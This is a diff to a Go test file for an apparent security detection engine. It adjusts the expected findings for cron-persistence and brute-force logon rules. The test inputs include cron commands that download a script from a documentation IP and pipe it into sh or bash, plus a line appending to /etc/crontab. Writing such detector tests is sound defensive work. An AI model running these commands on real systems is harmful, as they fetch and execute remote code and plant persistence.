@@ -168,7 +168,7 @@ func TestRules(t *testing.T) {
 		{name: "cron pipe", ev: linuxCmd(`(crontab -l; echo "*/5 * * * * curl -s http://198.51.100.7/c.sh | sh") | crontab -`), rule: "loupe-cron-persistence", tech: "T1053.003", prio: finding.High, check: true},
 		{name: "cron file", ev: linuxCmd(`echo "* * * * * root /tmp/.x" >> /etc/crontab`), rule: "loupe-cron-persistence", what: "/etc/crontab"},
 		{name: "crontab -l", ev: linuxCmd("crontab -l"), rule: ""},
-		{name: "CRON download", ev: syslogEv("CRON", "(root) CMD (wget -q -O- http://198.51.100.7/m.sh | bash)"), rule: "loupe-cron-persistence", what: `cron ran "wget -q -O- http://198.51.100.7/m.sh | bash" as root`},
+		{name: "CRON download", ev: syslogEv("CRON", "(root) CMD (wget -q -O- http://198.51.100.7/m.sh | bash)"), rule: "loupe-cron-persistence", what: `ran "wget -q -O- http://198.51.100.7/m.sh | bash" from a cron job`},
 		{name: "CRON benign", ev: syslogEv("CRON", "(root) CMD (cd / && run-parts --report /etc/cron.hourly)"), rule: ""},
 		{name: "CRON session", ev: syslogEv("CRON", "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)"), rule: ""},
 		// lsass access
@@ -317,7 +317,7 @@ func TestBruteForceThenSuccess(t *testing.T) {
 	if len(d.Related) != maxRelated || d.Related[0].RecordID != evs[0].ID {
 		t.Errorf("related = %+v", d.Related)
 	}
-	if d.Event != evs[9] || !strings.Contains(d.What, "from 203.0.113.50") || !strings.Contains(d.What, `"root"`) {
+	if d.Event != evs[9] || d.Actor != "203.0.113.50" || d.What != `failed to log on as "root" 10 times within 5 minutes` {
 		t.Errorf("event %v what %q", d.Event.ID, d.What)
 	}
 	s := ds["loupe-brute-force-success"]
@@ -404,7 +404,7 @@ func TestDistributedBruteForceOnOneUser(t *testing.T) {
 	evs = append(evs, sshOK("admin", "192.0.2.99", 30*time.Second))
 	ds := byRule(collect(New(Options{}), evs...))
 	bf := ds["loupe-brute-force"]
-	if len(bf) != 1 || !strings.Contains(bf[0].What, `failed logons for "admin" from 10 sources`) || !strings.Contains(bf[0].Key, "user:admin") {
+	if len(bf) != 1 || bf[0].What != `failed to log on as "admin" 10 times within 5 minutes` || !strings.HasPrefix(bf[0].Actor, "10 sources (") || !strings.Contains(bf[0].Key, "user:admin") {
 		t.Fatalf("brute force = %+v", bf)
 	}
 	s := ds["loupe-brute-force-success"]
